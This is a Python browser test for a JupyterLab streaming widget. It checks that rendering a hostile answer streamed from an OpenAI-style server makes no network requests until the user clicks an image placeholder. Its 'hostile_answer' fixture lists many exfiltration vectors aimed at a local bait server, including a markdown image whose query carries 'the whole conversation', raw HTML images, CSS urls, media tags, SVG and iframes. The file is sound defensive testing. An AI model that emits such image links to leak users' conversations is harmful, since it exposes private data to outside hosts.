"""Rendering a hostile answer makes no request of its own, in real JupyterLab.

The answer streams from one local server; every URL in it points at another,
which counts each request it gets. Images in markdown (inline, reference-style,
inside a link) and in raw HTML, srcset, CSS, media, SVG and embedded documents
stream in; the count stays zero until the user clicks a placeholder, and each
click loads exactly that one image. Turning ``load_images`` on loads the rest.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.harness import open_notebook, run_all_cells, run_cell_source
from tests.servers import Script, ScriptedServer, openai_chunks, tiny_pieces, wait_until

TIMEOUT_MS = 30_000
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
IMAGES = ["/md-inline.png", "/md-reference.png", "/md-linked.png"]


@pytest.fixture
def bait() -> Iterator[ScriptedServer]:
    """The server every URL in the answer points at: it logs each request."""
    with ScriptedServer() as server:
        for path in IMAGES:
            server.add(path, Script.of([PNG], content_type="image/png"))
        yield server


def hostile_answer(bait: str) -> str:
    return f"""Intro, with a [link]({bait}/link-target) that fetches only when followed.

![inline]({bait}/md-inline.png?q=the+whole+conversation)

![reference][pic]

[pic]: {bait}/md-reference.png

[![linked]({bait}/md-linked.png)]({bait}/link-around-image)

<img src="{bait}/html-img.png"> inline <img src={bait}/html-inline.png srcset="{bait}/srcset.png 2x">

<picture><source srcset="{bait}/picture-source.png"><img src="{bait}/picture-img.png"></picture>

<video poster="{bait}/poster.png" src="{bait}/video.mp4" autoplay><source src="{bait}/source.mp4"></video>
<audio src="{bait}/audio.mp3" autoplay></audio>

<link rel="stylesheet" href="{bait}/style.css"><link rel="prefetch" href="{bait}/prefetch">

<style>@import url({bait}/import.css); p {{ background: url({bait}/css-bg.png) }}</style>

<div style="background-image: url({bait}/inline-style.png)">styled</div>

<table background="{bait}/table-bg.png"><tr><td background="{bait}/td-bg.png">cell</td></tr></table>

<svg><image href="{bait}/svg-image.png"/><use href="{bait}/sprite.svg#a"/></svg>

<object data="{bait}/object"></object><embed src="{bait}/embed"><iframe src="{bait}/iframe"></iframe>

<input type="image" src="{bait}/input.png"> <body background="{bait}/body-bg.png">

![dot](data:image/png;base64,{base64.b64encode(PNG).decode()})

The end.
"""


def bait_paths(bait: ScriptedServer) -> list[str]:
    return [c.path for c in bait.connections]


def test_hostile_answer_fetches_nothing_until_a_click(
    page: Any, lab_server: Any, server: ScriptedServer, bait: ScriptedServer
) -> None:
    url = server.add("/render-requests", Script.of(openai_chunks(tiny_pieces(hostile_answer(bait.url), seed=13)), delay=0.002))
    name = lab_server.write_notebook(
        "render-requests.ipynb",
        f"from sse_widget import stream\nw = stream({url!r}, json={{'stream': True}}, label='hostile')",
    )
    # Every network request the page makes to anything but the Jupyter server
    # (the front end's own blob: modules are not network requests).
    foreign: list[str] = []

    def note(request: Any) -> None:
        if request.url.startswith(("http:", "https:")) and not request.url.startswith(lab_server.url):
            foreign.append(request.url)

    page.on("request", note)
    open_notebook(page, lab_server, name)
    run_all_cells(page)

    widget = page.locator(".sse-widget").filter(
        has=page.locator(".sse-widget-label", has_text=re.compile(r"^hostile$"))
    )
    expect(widget).to_have_attribute("data-status", "done", timeout=TIMEOUT_MS)
    output = widget.locator(".sse-widget-output")
    expect(output).to_contain_text("The end.", timeout=TIMEOUT_MS)
    # Two frames after the last text, style and layout are done: whatever the
    # rendered DOM would fetch has been asked for by now.
    page.evaluate("() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))")
    assert bait_paths(bait) == [], (bait_paths(bait), foreign)
    assert foreign == [], foreign

    holders = output.locator(".sse-widget-image")
    expect(holders).to_have_count(3, timeout=TIMEOUT_MS)
    assert output.locator("img:not([src^='data:'])").count() == 0
    inline = output.locator('img[src^="data:image/png"]')
    expect(inline).to_have_count(1)
    page.wait_for_function(
        "(img) => img.complete && img.naturalWidth === 1", arg=inline.element_handle(), timeout=TIMEOUT_MS
    )
    assert bait_paths(bait) == [] and foreign == [], (bait_paths(bait), foreign)
    first = holders.nth(0)
    expect(first).to_contain_text("inline")
    expect(first).to_contain_text(re.sub(r"^https?://", "", bait.url))
    # The raw HTML is shown as text.
    expect(output).to_contain_text('<img src="')

    # One click, one image.
    first.get_by_role("button").click()
    assert wait_until(lambda: len(bait.connections) >= 1, timeout=10), "the click loaded nothing"
    loaded = first.locator("img")
    expect(loaded).to_have_count(1, timeout=TIMEOUT_MS)
    page.wait_for_function(
        "(img) => img.complete && img.naturalWidth === 1", arg=loaded.element_handle(), timeout=TIMEOUT_MS
    )
    assert bait_paths(bait) == ["/md-inline.png"]
    expect(holders.locator("button")).to_have_count(2)

    # The next click loads the next image, and only that one.
    holders.nth(1).get_by_role("button").click()
    assert wait_until(lambda: len(bait.connections) >= 2, timeout=10), "the second click loaded nothing"
    expect(holders.nth(1).locator("img")).to_have_count(1, timeout=TIMEOUT_MS)
    assert bait_paths(bait) == ["/md-inline.png", "/md-reference.png"]

    # Opting in loads the rest (the image inside a link), without following the link.
    run_cell_source(page, "w.load_images = True")
    assert wait_until(lambda: len(bait.connections) >= 3, timeout=TIMEOUT_MS / 1000), "load_images loaded nothing"
    expect(holders.nth(2).locator("img")).to_have_count(1, timeout=TIMEOUT_MS)
    page.evaluate("() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))")
    assert bait_paths(bait) == IMAGES
    assert [u.split("?")[0].removeprefix(bait.url) for u in foreign] == IMAGES
    assert all(c.headers.get("referer") is None for c in bait.connections), "images go without a Referer"
